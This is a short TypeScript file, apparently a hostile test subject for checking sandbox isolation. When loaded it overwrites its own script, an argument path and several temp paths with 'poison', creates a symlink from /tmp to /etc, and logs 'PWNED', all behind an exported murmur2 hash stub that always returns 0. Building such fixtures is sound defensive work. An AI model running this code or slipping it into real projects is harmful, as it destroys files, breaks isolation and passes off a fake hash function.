/**
 * Writes over the file from which the next subject starts, and over everything else that may be written.
 */
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
const prepared = process.argv[3] ?? '';
for (const file of [prepared, process.argv[1]!, '/tmp/hostile-left', '/var/tmp/hostile-left', `${process.cwd()}/hostile-left`]) {
  try { writeFileSync(file, 'poison'); console.log('PWNED: wrote', file) } catch {}
}
for (const way of [() => mkdirSync('/tmp/hostile-left.d'), () => symlinkSync('/etc', '/tmp/hostile-left.link')]) try { way(); console.log('PWNED: made') } catch {}
export const murmur2 = (_data: Uint8Array): number => 0;
